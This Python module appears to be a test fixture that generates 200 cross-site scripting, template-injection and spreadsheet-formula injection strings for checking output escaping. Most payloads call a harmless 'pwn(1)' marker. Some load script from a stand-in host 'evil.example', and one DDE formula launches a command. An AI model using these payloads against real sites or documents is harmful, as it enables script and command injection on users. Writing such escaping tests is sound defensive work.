"""Two hundred strings that would run somewhere if they were let through unescaped."""

from __future__ import annotations

#: Sets a mark the tests look for; no quotes, so that it fits everywhere.
CALL = "pwn(1)"
_TAGS = ("img src=x", "svg", "body", "input autofocus", "video src=x", "audio src=x",
         "details open", "marquee", "iframe", "select autofocus", "textarea autofocus",
         "object data=x",
         "embed src=x", "link rel=stylesheet href=x", "math", "x tabindex=1 autofocus")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart",
           "onpointerover")
_FRAMES = ("{}", '"{}', "'{}", '">{}', "'>{}", "--!>{}", "</title>{}", "</textarea>{}",
           "</style>{}", "</script>{}", "</mark></p>{}", "]]>{}", "{{{{{}}}}}")
_BARE = (
    "javascript:pwn(1)", "JaVaScRiPt:pwn(1)", "java\tscript:pwn(1)", "&#106;avascript:pwn(1)",
    "data:text/html,<script>pwn(1)</script>", "vbscript:pwn(1)", "//evil.example/x.js",
    "https://a.example/\" onmouseover=\"pwn(1)", "http://a.example/'onclick='pwn(1)",
    "https://a.example/<script>pwn(1)</script>", "{{7*7}}{{config}}", "{% raw %}<b>{% endraw %}",
    "${pwn(1)}", "`${pwn(1)}`", "<%= pwn(1) %>", "\u202e<script>pwn(1)</script>",
    "＜script＞pwn(1)＜/script＞",
    "<scr\u0000ipt>pwn(1)</scr\u0000ipt>".replace("\u0000", "\ufffd"),
    "<ſcript>pwn(1)</ſcript>", "+ADw-script+AD4-pwn(1)+ADw-/script+AD4-",
    "<!--[if gte IE 4]><script>pwn(1)</script><![endif]-->", "<?xml-stylesheet href='x'?>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:pwn(1)>",
    "<form action=javascript:pwn(1)><button>", "<a href=javascript:pwn(1)>click</a>",
    "<svg><use href=data:image/svg+xml,x#y></use></svg>",
    "<svg><animate onbegin=pwn(1) attributeName=x>",
    "<div hx-on:load=pwn(1)>", "<div hx-get=/paste hx-trigger=load>",
    "<b data-hx-on-load=pwn(1)>",
    "<style>@import '//evil.example/x'</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwn(1)>\">",
    "=HYPERLINK(\"https://evil.example\")", "@SUM(1)", "-2+3+cmd|' /C calc'!A0",
)


def corpus() -> list[str]:
    """The strings; always the same, and two hundred of them."""
    out = list(_BARE)
    plain = [f"<script>{CALL}</script>", f"<ScRiPt >{CALL}</sCrIpT>",
             f"<script src=//evil.example/{CALL}>",
             f"<img src=x onerror={CALL}>", f"<svg/onload={CALL}>"]
    out += [frame.format(p) for p in plain for frame in _FRAMES]
    for i, tag in enumerate(_TAGS):
        for j, event in enumerate(_EVENTS):
            out.append(_FRAMES[(i * 7 + j) % len(_FRAMES)].format(f"<{tag} {event}={CALL}>"))
    return list(dict.fromkeys(out))[:200]
